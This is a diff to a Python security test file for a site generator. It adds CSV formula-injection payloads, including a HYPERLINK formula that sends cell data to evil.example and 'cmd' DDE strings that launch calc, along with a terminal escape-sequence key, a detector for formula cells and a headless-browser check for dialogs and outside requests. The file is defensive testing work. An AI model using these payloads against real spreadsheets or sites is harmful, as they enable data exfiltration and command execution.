@@ -8,6 +8,8 @@ one thing listed here (``ROOTS``), and the test fails when a model is reachable 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import types
@@ -27,6 +29,7 @@ from backbone.identity.model import Identity
 from backbone.learning.model import ReviewMeta, Voices
 from backbone.metrics.model import InvestmentsFile, MetricFile
 from backbone.partners.model import PartnersFile
+from backbone.report.letter import ReportMeta
 from backbone.schema import Strict
 from backbone.stories.model import StoryMeta
 
@@ -41,6 +44,7 @@ ROOTS: dict[type[BaseModel], tuple[str, bool]] = {
     Voices: ("data/voices.yml", False),
     StoryMeta: ("content/stories/*.md", True),
     ReviewMeta: ("content/learning/*.md", True),
+    ReportMeta: ("content/reports/*.md", True),
 }
 
 # --- the schemas -----------------------------------------------------------------------
@@ -152,8 +156,27 @@ PAYLOADS = [
     "x; } body { background-image: url(https://evil.example/t.png) } a {",
     '<!-- c --> <?php x ?> <iframe src="https://evil.example/"></iframe>',
     '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    # Formulas, for CSV cells: written before the marker, so that the cell starts with them
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+1",
 ]
 CONTROLS = ["\x07", "\x1b", "\x00", "\ufffe"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+FORMULAS = [i for i, payload in enumerate(PAYLOADS) if payload.startswith(FORMULA_START)]
+# Fields a CSV download publishes: they always get a formula
+CSV_FIELDS = {"MetricFile.series.[].note", "MetricFile.breakdown.[].[].note"}
+# A key with terminal sequences (set the title, hide what follows), planted beside a control
+# character: the message that names it echoes it, and must show it, not send it.
+TERMINAL_KEY = "zq999x\x1b]0;pwned\x07\x1b[8m"
+TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what a terminal obeys (tab, newline kept)
+
+
+def value(n: int, payload: str) -> str:
+    """A hostile value led by its marker, or ending with it when it is a formula (which a
+    spreadsheet reads only at the start of a cell)."""
+    return f"{payload} {marker(n)}" if payload.startswith(FORMULA_START) else f"{marker(n)} {payload}"
 
 
 def marker(n: int) -> str:
@@ -249,6 +272,14 @@ def fill(root: Path, values: dict[int, str], slots: list[Slot], bodies: dict[str
         for i in by_file.get(rel, []):
             put(data, slots[i].path, values[i])
         write_data(root / rel, data, front, body + bodies.get(rel, ""))
+
+
+def plant_key(root: Path, rel: str, key: str) -> None:
+    """Add ``key`` at the top of the file's data (its front matter for Markdown)."""
+    front = rel.endswith(".md")
+    data, body = read_data(root / rel, front)
+    data[key] = "x"
+    write_data(root / rel, data, front, body)
 
 
 # --- reading every output -----------------------------------------------------------------
@@ -466,6 +497,27 @@ def check_json(path: Path, where: str, found: Findings) -> None:
         found.saw(json.dumps(document, ensure_ascii=False))
 
 
+def spreadsheet_formula(cell: str) -> bool:
+    """A spreadsheet's rule (Excel, LibreOffice, Google Sheets): a cell that starts so is a
+    formula, unless it is a plain number."""
+    if not cell.startswith(FORMULA_START):
+        return False
+    try:
+        float(cell)
+    except ValueError:
+        return True
+    return False
+
+
+def check_csv(text: str, where: str, found: Findings) -> None:
+    """Each cell as a spreadsheet opens it: never a formula."""
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            found.saw(cell)
+            if spreadsheet_formula(cell):
+                found.flag(where, f"a cell a spreadsheet runs as a formula: {cell[:80]!r}")
+
+
 def check_site(site: Path) -> Findings:
     """Read every file of ``site`` with the parser its kind needs."""
     found = Findings()
@@ -485,9 +537,68 @@ def check_site(site: Path) -> Findings:
             text = path.read_text(encoding="utf-8", errors="replace")
             if MARKER.search(text) or EVIL.search(text):
                 found.flag(rel, f"input in a {suffix} file: {(MARKER.search(text) or EVIL.search(text)).group()}")
-        elif suffix in (".txt", ".csv", ".md"):
+        elif suffix == ".csv":
+            check_csv(path.read_text(encoding="utf-8"), rel, found)
+        elif suffix == ".pdf":  # the annual report: its text as a reader's viewer extracts it
+            import pypdf
+
+            found.saw("\n".join(page.extract_text() or "" for page in pypdf.PdfReader(path).pages))
+        elif suffix in (".txt", ".md"):
             text = path.read_text(encoding="utf-8")
             found.saw(text)
             if suffix == ".txt" and re.search(r"<(?:script|img|svg|iframe|a|style)\b", text, re.I):
                 found.flag(rel, "markup in a plain-text e-mail")
     return found
+
+
+# --- pages in a browser ------------------------------------------------------------------
+
+# What a reader's browser did on each page: a dialog (the payloads call alert), a request to
+# another site (the server is on 127.0.0.1), an error of a script.
+SECTION = re.compile(r"^([^/]*)/")
+# Pictures, fonts and styles are refused (a refused picture fires its onerror as a failed
+# one does): scripts and the markup that could run them are what this reads.
+NOT_LOADED = ("image", "font", "stylesheet", "media")
+
+
+def pages_to_open(site: Path) -> list[str]:
+    """The home page and the first page of each section (the first folder): the same pages
+    for every example."""
+    chosen: dict[str, str] = {}
+    for path in sorted(site.rglob("index.html")):
+        rel = path.relative_to(site).as_posix()
+        chosen.setdefault(m.group(1) if (m := SECTION.match(rel)) else "", rel)
+    return sorted(chosen.values())
+
+
+def browse(browser, site: Path, pages: list[str], own: str = "") -> list[str]:
+    """Open each of ``pages`` in Chromium as a reader would (scripts on) and say what fired:
+    dialogs, requests that leave the site (``own``, the site's address, is the site: not
+    served here, so not fetched either), uncaught script errors."""
+    from browsing import served
+
+    fired: list[str] = []
+    current = [""]
+    with served(site) as server:
+        context = browser.new_context(viewport={"width": 1280, "height": 900})
+
+        def route(request_route):
+            request = request_route.request
+            if request.url.startswith(server) and request.resource_type not in NOT_LOADED:
+                request_route.continue_()
+                return
+            if not request.url.startswith(server) and not (own and request.url.startswith(own)):
+                fired.append(f"{current[0]}: request to another site {request.url[:100]}")
+            request_route.abort()
+
+        try:
+            context.route("**/*", route)
+            page = context.new_page()
+            page.on("dialog", lambda d: (fired.append(f"{current[0]}: dialog {d.message!r}"), d.dismiss()))
+            page.on("pageerror", lambda e: fired.append(f"{current[0]}: script error {e}"))
+            for rel in pages:
+                current[0] = rel
+                page.goto(server + rel, wait_until="load")  # after every picture has failed
+        finally:
+            context.close()
+    return fired
